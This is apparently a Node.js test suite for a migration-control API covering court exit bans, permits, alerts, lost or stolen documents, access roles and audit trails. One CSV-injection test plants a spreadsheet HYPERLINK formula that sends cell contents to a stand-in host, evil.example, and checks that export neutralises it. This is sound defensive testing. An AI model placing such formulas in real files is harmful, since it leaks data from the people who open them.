// The Secretaría General's registries: court restrictions (every lifecycle
// transition, versions kept), migration alerts, lost and stolen documents;
// who may write them; bad input.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, Client, ADMIN_PASSWORD, staffUser } from '../lib/server.mjs';

let srv, sec, sup, ofi, pas;
const PW = 'Turno-Seguro-2026';

before(async () => {
  srv = await startServer();
  sec = await staffUser(srv.url, 'u_secretaria_general', 'secretaria_general', PW, 'DG');
  sup = await staffUser(srv.url, 'u_supervisor_control', 'supervisor_control', PW, 'DG');
  ofi = await staffUser(srv.url, 'u_oficial_control', 'oficial_control', PW, 'DG');
  pas = await staffUser(srv.url, 'u_pasaportes', 'pasaportes', PW, 'DG');
});
after(async () => { await srv.stop(); });

const restriction = (over = {}) => ({
  court: 'Juzgado Segundo de Instrucción de San Salvador',
  case_number: 'INS-0423-2026',
  measure: 'exit_ban',
  subject: { given_names: 'José Luis', surnames: 'Hernández de la Cruz', birth_date: '1980-05-17', nationality: 'SLV', document_number: 'A12345678' },
  effective_from: '2026-01-01',
  effective_to: null,
  ...over,
});

test('restriction lifecycle: register, modify, permit, lift; every version kept and audited', async () => {
  const c = await sec.post('/api/v1/restrictions', restriction());
  assert.equal(c.status, 201, JSON.stringify(c.json));
  const id = c.json.id;
  assert.ok(Number.isInteger(id));
  assert.equal(c.json.status, 'active');
  assert.equal(c.json.subject.surnames, 'Hernández de la Cruz');

  const m = await sec.patch(`/api/v1/restrictions/${id}`, { effective_to: '2027-12-31', reason: 'Resolución de prórroga' });
  assert.equal(m.status, 200, JSON.stringify(m.json));
  assert.equal(m.json.effective_to, '2027-12-31');
  assert.equal(m.json.version, 2);

  const p = await sec.post(`/api/v1/restrictions/${id}/permits`, { from: '2026-12-01', to: '2026-12-15', destination: 'GTM', authorization: 'Oficio 1234-2026 del juzgado' });
  assert.equal(p.status, 201, JSON.stringify(p.json));
  assert.equal(p.json.permits.length, 1);
  assert.equal(p.json.permits[0].destination, 'GTM');

  const l = await sec.post(`/api/v1/restrictions/${id}/lift`, { order_reference: 'Auto de cese 77-2026' });
  assert.equal(l.status, 200);
  assert.equal(l.json.status, 'lifted');
  assert.equal(l.json.lift_order_reference, 'Auto de cese 77-2026');

  const g = await sec.get(`/api/v1/restrictions/${id}`);
  assert.equal(g.status, 200);
  assert.deepEqual(g.json.history.map((h) => h.change), ['created', 'modified', 'permit_granted', 'lifted']);
  assert.deepEqual(g.json.history.map((h) => h.version), [1, 2, 3, 4]);
  assert.equal(g.json.history[0].record.effective_to, null, 'version 1 keeps the original period');
  assert.equal(g.json.history[1].record.effective_to, '2027-12-31');
  assert.equal(g.json.history[3].record.status, 'lifted');

  // lifting twice, or changing a lifted restriction, is a conflict
  const again = await sec.post(`/api/v1/restrictions/${id}/lift`, { order_reference: 'x' });
  assert.equal(again.status, 409);
  assert.equal(again.json.error.code, 'already_lifted');
  const late = await sec.post(`/api/v1/restrictions/${id}/permits`, { from: '2026-12-01', to: '2026-12-02', destination: 'HND', authorization: 'x' });
  assert.equal(late.status, 409);
  assert.equal(late.json.error.code, 'restriction_lifted');

  const admin = new Client(srv.url);
  await admin.login('admin', ADMIN_PASSWORD);
  const a = await admin.get(`/api/v1/audit?record_type=restriction&record_id=${id}&limit=50`);
  const actions = a.json.items.map((i) => i.action);
  for (const act of ['restriction.create', 'restriction.modify', 'restriction.permit', 'restriction.lift', 'restriction.read'])
    assert.ok(actions.includes(act), `audit has ${act}: ${actions}`);
});

test('a permit outside the restriction period is refused naming the field', async () => {
  const c = await sec.post('/api/v1/restrictions', restriction({ effective_from: '2026-03-01', effective_to: '2026-06-30', case_number: 'B-1' }));
  assert.equal(c.status, 201);
  const before = await sec.post(`/api/v1/restrictions/${c.json.id}/permits`, { from: '2026-02-20', to: '2026-03-05', destination: 'USA', authorization: 'x' });
  assert.equal(before.status, 422);
  assert.equal(before.json.error.code, 'permit_outside_restriction');
  assert.equal(before.json.error.field, 'from');
  const afterEnd = await sec.post(`/api/v1/restrictions/${c.json.id}/permits`, { from: '2026-06-20', to: '2026-07-05', destination: 'USA', authorization: 'x' });
  assert.equal(afterEnd.status, 422);
  assert.equal(afterEnd.json.error.field, 'to');
  const inverted = await sec.post(`/api/v1/restrictions/${c.json.id}/permits`, { from: '2026-04-10', to: '2026-04-01', destination: 'USA', authorization: 'x' });
  assert.equal(inverted.status, 422);
});

test('an exit permit is registered on an exit ban only: on another measure the booth would ignore it (422 permit_needs_exit_ban)', async () => {
  for (const measure of ['passport_retention', 'periodic_appearance', 'other']) {
    const c = await sec.post('/api/v1/restrictions', restriction({ measure, case_number: `PN-${measure}` }));
    assert.equal(c.status, 201, JSON.stringify(c.json));
    const p = await sec.post(`/api/v1/restrictions/${c.json.id}/permits`, { from: '2027-03-01', to: '2027-03-05', destination: 'GTM', authorization: 'Oficio 11' });
    assert.deepEqual([p.status, p.json.error && p.json.error.code, p.json.error && p.json.error.field], [422, 'permit_needs_exit_ban', 'id'], JSON.stringify(p.json));
    assert.match(p.json.error.message, /impedimento de salida/);
    const r = (await sec.get(`/api/v1/restrictions/${c.json.id}`)).json;
    assert.deepEqual([r.permits.length, r.version], [0, c.json.version], 'nothing recorded');
  }
});

// OWASP "CSV injection": a restriction typed with a formula in its text
// opens in Excel or LibreOffice as text (a single quote before the cell),
// numbers stay numbers, and the quote does not come back on import.
test('CSV export: cells a spreadsheet would run as formulas start with a quote; the import takes it off', async () => {
  const court = '=HYPERLINK("http://evil.example/?x="&A2,"ver")';
  const c = await sec.post('/api/v1/restrictions', restriction({
    court, case_number: '=1+1', document_reference: '-5',
    subject: { given_names: '@SUM(1+1)', surnames: '+Cmd Prueba', birth_date: '1970-01-01', sex: 'M', nationality: 'SLV' },
  }));
  assert.equal(c.status, 201, JSON.stringify(c.json));
  const e = await sup.get('/api/v1/restrictions/export');
  assert.equal(e.status, 200);
  const [head, row] = [e.text.split('\r\n')[0], e.text.split('\r\n').find((l) => l.startsWith(`${c.json.id},`))];
  assert.equal(row, `${c.json.id},active,"'=HYPERLINK(""http://evil.example/?x=""&A2,""ver"")",'=1+1,exit_ban,'@SUM(1+1),'+Cmd Prueba,1970-01-01,M,SLV,,,,2026-01-01,,-5`);
  // the same row imported again: the values as typed, without the quotes
  const im = await sec.req('POST', '/api/v1/restrictions/import', `${head}\r\n${row}\r\n`, { 'content-type': 'text/csv' });
  assert.equal(im.status, 201, JSON.stringify(im.json));
  assert.equal(im.json.accepted, 1, JSON.stringify(im.json));
  const both = (await sup.get(`/api/v1/restrictions?case_number=${encodeURIComponent('=1+1')}`)).json.items;
  assert.equal(both.length, 2, JSON.stringify(both));
  for (const r of both) {
    const g = (await sup.get(`/api/v1/restrictions/${r.id}`)).json;
    assert.equal(g.court, court);
    assert.equal(g.case_number, '=1+1');
    assert.equal(g.subject.given_names, '@SUM(1+1)');
    assert.equal(g.subject.surnames, '+Cmd Prueba');
    assert.equal(g.document_reference, '-5');
  }
});

test('a permit names its destination by country code: known ISO codes, lower case taken; XXX, unknown codes and free text refused', async () => {
  const c = await sec.post('/api/v1/restrictions', restriction({ case_number: 'DEST-1' }));
  assert.equal(c.status, 201);
  const permit = (destination, from = '2027-01-01') => sec.post(`/api/v1/restrictions/${c.json.id}/permits`, { from, to: from, destination, authorization: 'Oficio 9' });
  for (const bad of ['XXX', 'XXA', 'UNO', 'ZZZ', 'GT', 'GTMX', 'Guatemala', 'G1M', 'ÉSP', 'G TM']) {
    const r = await permit(bad);
    assert.equal(r.status, 400, `${bad}: ${r.text}`);
    assert.equal(r.json.error.field, 'destination', bad);
    assert.equal(r.json.error.code, 'invalid_destination', bad);
  }
  const low = await permit('gtm', '2027-01-02');
  assert.equal(low.status, 201, low.text);
  assert.equal(low.json.permits.at(-1).destination, 'GTM');
  const kos = await permit('RKS', '2027-01-03');
  assert.equal(kos.status, 201, kos.text);
  assert.equal(kos.json.permits.length, 2, 'the refused ones left no permit');
  // spaces around the code (pasted) are taken off: « GTM» was invalid_destination until 2026-12-07
  const pasted = await permit(' GTM ', '2027-01-04');
  assert.equal(pasted.status, 201, pasted.text);
  assert.equal(pasted.json.permits.at(-1).destination, 'GTM');
});

test('bad restriction input gets 4xx naming the field', async () => {
  const cases = [
    [{ subject: {} }, 422, 'subject'],
    [{ subject: { sex: 'M' } }, 422, 'subject'],
    [{ subject: { given_names: 'A', surnames: 'B', birth_date: '2099-01-01' } }, 422, 'subject.birth_date'],
    [{ subject: { given_names: 'A', surnames: 'B', dui: '12345678-0' } }, 400, 'subject.dui'],
    [{ subject: { given_names: 'A', surnames: 'B', foo: 1 } }, 400, 'subject.foo'],
    [{ effective_from: '2026-02-30' }, 400, 'effective_from'],
    [{ effective_from: '2026-05-01', effective_to: '2026-04-01' }, 422, 'effective_to'],
    [{ measure: 'curfew' }, 422, 'measure'],
    [{ court: '' }, 400, 'court'],
    [{ court: 5 }, 400, 'court'],
  ];
  for (const [over, status, field] of cases) {
    const r = await sec.post('/api/v1/restrictions', restriction(over));
    assert.equal(r.status, status, `${JSON.stringify(over)} -> ${JSON.stringify(r.json)}`);
    assert.equal(r.json.error.field, field, JSON.stringify(r.json));
  }
  assert.equal((await sec.get('/api/v1/restrictions/999999')).status, 404);
  assert.equal((await sec.get('/api/v1/restrictions/abc')).status, 404);
  // a DUI with a valid check digit is accepted
  const ok = await sec.post('/api/v1/restrictions', restriction({ case_number: 'DUI-1', subject: { dui: '00016297-5' } }));
  assert.equal(ok.status, 201, JSON.stringify(ok.json));
});

test('only the Secretaría General writes restrictions; supervisors read them', async () => {
  assert.equal((await sup.post('/api/v1/restrictions', restriction())).status, 403);
  assert.equal((await ofi.post('/api/v1/restrictions', restriction())).status, 403);
  assert.equal((await ofi.get('/api/v1/restrictions')).status, 403);
  const list = await sup.get('/api/v1/restrictions?case_number=INS-0423-2026');
  assert.equal(list.status, 200);
  assert.ok(list.json.items.length >= 1);
  assert.ok(list.json.items.every((r) => r.case_number === 'INS-0423-2026'));
  const byName = await sup.get('/api/v1/restrictions?name=' + encodeURIComponent('Hernández'));
  assert.ok(byName.json.items.length >= 1);
});

test('alerts: supervisors issue and cancel; categories and re-entry bans validated', async () => {
  const a = await sup.post('/api/v1/alerts', {
    category: 'missing_child', subject: { given_names: 'María', surnames: 'López', birth_date: '2015-03-02' },
    instructions: 'Retener y avisar a la PNC y al CONNA', valid_until: '2027-01-01',
  });
  assert.equal(a.status, 201, JSON.stringify(a.json));
  assert.equal(a.json.status, 'active');
  assert.equal((await sec.post('/api/v1/alerts', { category: 'other', subject: { document_number: 'X1000001' }, instructions: 'x' })).status, 403);
  const ban = await sup.post('/api/v1/alerts', { category: 'reentry_ban', subject: { document_number: 'P998877' }, instructions: 'Expulsado' });
  assert.equal(ban.status, 422);
  assert.equal(ban.json.error.field, 'reentry_ban_until');
  const bad = await sup.post('/api/v1/alerts', { category: 'spy', subject: { document_number: 'X1000001' }, instructions: 'x' });
  assert.equal(bad.status, 422);
  assert.equal(bad.json.error.field, 'category');
  const c = await sup.post(`/api/v1/alerts/${a.json.id}/cancel`, { reason: 'Localizada' });
  assert.equal(c.status, 200);
  assert.equal(c.json.status, 'cancelled');
  assert.equal((await sup.post(`/api/v1/alerts/${a.json.id}/cancel`, { reason: 'x' })).status, 409);
  assert.equal((await sec.get(`/api/v1/alerts/${a.json.id}`)).status, 200);
});

test('alerts: only the issuing unit cancels its alert', async () => {
  const mine = (await sup.get('/api/v1/session')).json.user.unit.code;
  assert.ok(mine);
  const other = (await sup.get('/api/v1/org/units')).json.map((u) => u.code).find((c) => c !== mine);
  const a = await sup.post('/api/v1/alerts', {
    category: 'arrest_warrant', issuing_unit: other, subject: { given_names: 'Ovidio', surnames: 'Quezada', birth_date: '1970-01-20' },
    instructions: 'Retener y avisar a la PNC',
  });
  assert.equal(a.status, 201, JSON.stringify(a.json));
  assert.equal(a.json.issuing_unit, other);
  const c = await sup.post(`/api/v1/alerts/${a.json.id}/cancel`, { reason: 'error' });
  assert.equal(c.status, 403, JSON.stringify(c.json));
  assert.equal(c.json.error.code, 'other_unit');
  assert.equal((await sup.get(`/api/v1/alerts/${a.json.id}`)).json.status, 'active');
  assert.equal((await sup.post('/api/v1/alerts/987654321/cancel', { reason: 'x' })).status, 409);
});

test('lost and stolen documents: report, duplicate refused, recover, report again', async () => {
  const doc = { document_number: 'B0012345', document_type: 'passport', issuing_state: 'SLV', reason: 'stolen' };
  const r = await pas.post('/api/v1/documents/lost-stolen', doc);
  assert.equal(r.status, 201, JSON.stringify(r.json));
  const dup = await sec.post('/api/v1/documents/lost-stolen', doc);
  assert.equal(dup.status, 409);
  assert.equal(dup.json.error.field, 'document_number');
  assert.equal((await ofi.post('/api/v1/documents/lost-stolen', doc)).status, 403);
  const bad = await pas.post('/api/v1/documents/lost-stolen', { ...doc, document_number: 'b-1' });
  assert.equal(bad.status, 400);
  assert.equal(bad.json.error.field, 'document_number');
  const rec = await pas.post(`/api/v1/documents/lost-stolen/${r.json.id}/recover`, { reason: 'Recuperado por la PNC' });
  assert.equal(rec.status, 200);
  assert.equal(rec.json.status, 'recovered');
  assert.equal((await pas.post('/api/v1/documents/lost-stolen', doc)).status, 201, 'a recovered document can be reported again');
  const list = await sup.get('/api/v1/documents/lost-stolen?document_number=B0012345');
  assert.equal(list.json.items.length, 2);
  // one report by its number, as a match names it (lost_stolen:N); read audited
  const one = await sup.get(`/api/v1/documents/lost-stolen/${r.json.id}`);
  assert.equal(one.status, 200, JSON.stringify(one.json));
  assert.deepEqual([one.json.id, one.json.document_number, one.json.status], [r.json.id, 'B0012345', 'recovered']);
  assert.equal((await sup.get('/api/v1/documents/lost-stolen/987654321')).status, 404);
  assert.equal((await sup.get('/api/v1/documents/lost-stolen/x1')).status, 404);
  const admin = new Client(srv.url);
  await admin.login('admin', ADMIN_PASSWORD);
  const reads = (await admin.get(`/api/v1/audit?record_type=lost_stolen&record_id=${r.json.id}&action=lost_stolen.read`)).json.items;
  assert.equal(reads.length, 1, JSON.stringify(reads));
});

test('lists of restrictions, alerts and lost or stolen documents name what they show in their audit entry', async () => {
  const admin = new Client(srv.url);
  await admin.login('admin', ADMIN_PASSWORD);
  const trail = async (type, id, action) => (await admin.get(`/api/v1/audit?record_type=${type}&record_id=${id}&action=${action}`)).json.items;
  const rs = await sec.post('/api/v1/restrictions', restriction({ case_number: 'INS-LIST-2026', subject: { given_names: 'Elías', surnames: 'Listado Visto', birth_date: '1979-09-09' } }));
  assert.equal(rs.status, 201, JSON.stringify(rs.json));
  assert.deepEqual((await sup.get('/api/v1/restrictions?case_number=INS-LIST-2026')).json.items.map((x) => x.id), [rs.json.id]);
  const r = await trail('restriction', rs.json.id, 'restriction.search');
  assert.equal(r.length, 1, JSON.stringify(r));
  assert.equal(r[0].user, 'u_supervisor_control');
  assert.equal(r[0].detail.case_number, 'INS-LIST-2026', 'the criteria are kept');
  assert.deepEqual(r[0].detail.ids, [rs.json.id]);

  const al = await sup.post('/api/v1/alerts', { category: 'other', subject: { given_names: 'Rosa', surnames: 'Alertada', document_number: 'ALST0001' }, instructions: 'Avisar' });
  assert.equal(al.status, 201, JSON.stringify(al.json));
  assert.deepEqual((await sec.get('/api/v1/alerts?document_number=ALST0001')).json.items.map((x) => x.id), [al.json.id]);
  const a = await trail('alert', al.json.id, 'alert.search');
  assert.equal(a.length, 1, JSON.stringify(a));
  assert.equal(a[0].user, 'u_secretaria_general');
  assert.deepEqual(a[0].detail.ids, [al.json.id]);

  const ls = await pas.post('/api/v1/documents/lost-stolen', { document_number: 'C0099887', document_type: 'passport', issuing_state: 'SLV', reason: 'lost',
    holder: { given_names: 'Inés', surnames: 'Perdida', birth_date: '1990-01-01' } });
  assert.equal(ls.status, 201, JSON.stringify(ls.json));
  assert.deepEqual((await sup.get('/api/v1/documents/lost-stolen?document_number=C0099887')).json.items.map((x) => x.id), [ls.json.id]);
  const l = await trail('lost_stolen', ls.json.id, 'lost_stolen.search');
  assert.equal(l.length, 1, JSON.stringify(l));
  assert.deepEqual(l[0].detail.ids, [ls.json.id]);
  // the holder's names as any registry subject's: a name too long to
  // screen, or a number for a name, is said, not taken or dropped
  for (const [holder, field] of [[{ surnames: 'Ñ'.repeat(201) }, 'holder.surnames'], [{ given_names: 42 }, 'holder.given_names']]) {
    const bad = await pas.post('/api/v1/documents/lost-stolen', { document_number: 'C0099888', document_type: 'passport', issuing_state: 'SLV', reason: 'lost', holder });
    assert.equal(bad.status, 400, bad.text);
    assert.equal(bad.json.error.field, field);
  }
  assert.equal((await sup.get('/api/v1/documents/lost-stolen?document_number=C0099888')).json.items.length, 0);
});

test('an exit permit to El Salvador itself is refused naming destination', async () => {
  const c = await sec.post('/api/v1/restrictions', restriction({ case_number: 'DEST-SLV' }));
  assert.equal(c.status, 201);
  for (const destination of ['SLV', 'slv']) {
    const r = await sec.post(`/api/v1/restrictions/${c.json.id}/permits`, { from: '2027-02-01', to: '2027-02-05', destination, authorization: 'Oficio 10' });
    assert.equal(r.status, 422, `${destination}: ${r.text}`);
    assert.deepEqual([r.json.error.code, r.json.error.field], ['destination_is_origin', 'destination']);
  }
  assert.equal((await sec.get(`/api/v1/restrictions/${c.json.id}`)).json.permits.length, 0);
});

test('a subject\'s nationality is a country the booth knows: «XYZ» was registered and matched nobody', async () => {
  for (const nat of ['XYZ', 'QQQ']) {
    const r = await sec.post('/api/v1/restrictions', restriction({ case_number: `INS-NAT-${nat}`, subject: { ...restriction().subject, nationality: nat } }));
    assert.deepEqual([r.status, r.json.error.code, r.json.error.field], [400, 'unknown_country', 'subject.nationality'], JSON.stringify(r.json));
    const a = await sup.post('/api/v1/alerts', { category: 'other', subject: { given_names: 'Ana', surnames: 'Nacional', nationality: nat }, instructions: 'Verificar' });
    assert.deepEqual([a.status, a.json.error.field], [400, 'subject.nationality'], JSON.stringify(a.json));
  }
  // ICAO's codes and Germany's «D» stand
  for (const nat of ['XXA', 'D', 'RKS']) {
    const r = await sec.post('/api/v1/restrictions', restriction({ case_number: `INS-NAT-${nat}`, subject: { ...restriction().subject, nationality: nat } }));
    assert.equal(r.status, 201, `${nat}: ${JSON.stringify(r.json)}`);
  }
});
